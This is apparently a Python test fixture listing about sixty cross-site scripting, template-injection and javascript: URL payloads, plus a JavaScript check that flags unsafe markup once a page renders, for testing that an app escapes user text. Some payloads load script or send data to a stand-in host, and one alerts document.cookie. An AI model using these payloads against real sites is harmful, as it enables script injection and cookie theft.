"""Sixty texts that would do something where a text is taken for markup, code, style or an address.

Each sets `hacked`, opens a dialog or asks 192.0.2.1 (RFC 5737: nobody's) when it is not text. The
classes follow OWASP's cross-site scripting evasion list and the template and prototype tricks of
single-page editors.
"""

TAGS = (
    "<script>hacked=1</script>",
    "</script><script>hacked=1</script>",
    "<script src=//192.0.2.1/x.js></script>",
    "<scr<script>ipt>hacked=1</scr</script>ipt>",
    "<SCRIPT >alert(1)</SCRIPT >",
    "<script type=module>import('data:text/javascript,hacked=1')</script>",
    "<img src=x onerror=hacked=1>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<img src=http://192.0.2.1/pixel>",
    "<image xlink:href=x onerror=hacked=1>",
    "<svg onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked=1>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=1</script>'></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data='data:text/html,<script>hacked=1</script>'></object>",
    "<embed src='data:text/html,<script>hacked=1</script>'>",
    "<video><source onerror=hacked=1></video>",
    "<audio src=x onerror=hacked=1 autoplay>",
    "<details open ontoggle=hacked=1>x</details>",
    "<input autofocus onfocus=hacked=1>",
    "<select autofocus onfocus=alert(1)>",
    "<body onload=hacked=1>",
    "<marquee onstart=hacked=1>x</marquee>",
    "<form action=//192.0.2.1><button autofocus onfocus=form.submit()>x</button></form>",
    "<isindex type=image src=1 onerror=hacked=1>",
    "<base href='http://192.0.2.1/'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<style>@import 'http://192.0.2.1/x.css'</style>",
    "<style>*{background:url(http://192.0.2.1/)}</style>",
    "<template><script>hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<textarea></textarea><img src=x onerror=hacked=1>",
    "<!--<img src='--><img src=x onerror=hacked=1>'>",
    "<![CDATA[><img src=x onerror=hacked=1>]]>",
)
ATTRIBUTES = (
    '"><svg onload=hacked=1>',
    "'><img src=x onerror=hacked=1>",
    '" autofocus onfocus=hacked=1 x="',
    "' onmouseover='hacked=1",
    "x` onclick=`hacked=1",
    "&quot;><img src=x onerror=hacked=1>",
    "&lt;img src=x onerror=hacked=1&gt;",
    "\\u003cimg src=x onerror=hacked=1\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dhacked%3D1%3E",
)
CODE = (
    "'-hacked=1-'",
    "\\';hacked=1;//",
    "${hacked=1}",
    "{{constructor.constructor('hacked=1')()}}",
    "{% raw %}{{7*7}}",
    "\u2028hacked=1\u2029",
)
ADDRESSES = (
    "javascript:hacked=1",
    "java\tscript:alert(1)",
    "[x](javascript:hacked=1)",
    "![x](http://192.0.2.1/pixel)",
    "<a href='javascript:hacked=1' ping='http://192.0.2.1/'>x</a>",
)
CORPUS = (*TAGS, *ATTRIBUTES, *CODE, *ADDRESSES)
ODD = ("__proto__", "constructor", "toString", "\u202egnirts\u202c", "\x1b[31m", "\ufeff")

# Elements and attributes that no page of ours has: what a text would have become.
STRANGE = r"""(() => {
  const bad = [];
  for (const each of document.querySelectorAll('*')) {
    const name = each.localName;
    if (['iframe', 'object', 'embed', 'base', 'img', 'image', 'style', 'video', 'audio', 'marquee', 'template',
      'math', 'foreignobject', 'foreignObject', 'animate', 'mglyph', 'isindex'].includes(name)) bad.push(name);
    if (name === 'script' && !each.src && each.type !== 'application/json') bad.push('inline script');
    if (name === 'meta' && each.httpEquiv) bad.push('meta refresh');
    for (const {name: key, value} of each.attributes) {
      if (/^on|^ping$|^srcdoc$|^formaction$/i.test(key)) bad.push(`${name} ${key}`);
      if (/^(href|src|action|data|xlink:href)$/.test(key) && !(name === 'link' && each.rel === 'icon')
        && !/^(#|\/|https?:|blob:)/.test(value)) bad.push(`${name} ${key}=${value}`);
      if (/^(src|action|data)$/.test(key) && value.includes('192.0.2.1')) bad.push(`${name} ${key}=${value}`);
    }
  }
  if (typeof hacked !== 'undefined') bad.push('hacked');
  if ({}.polluted !== undefined) bad.push('polluted');
  return bad;
})()"""  # noqa: E501
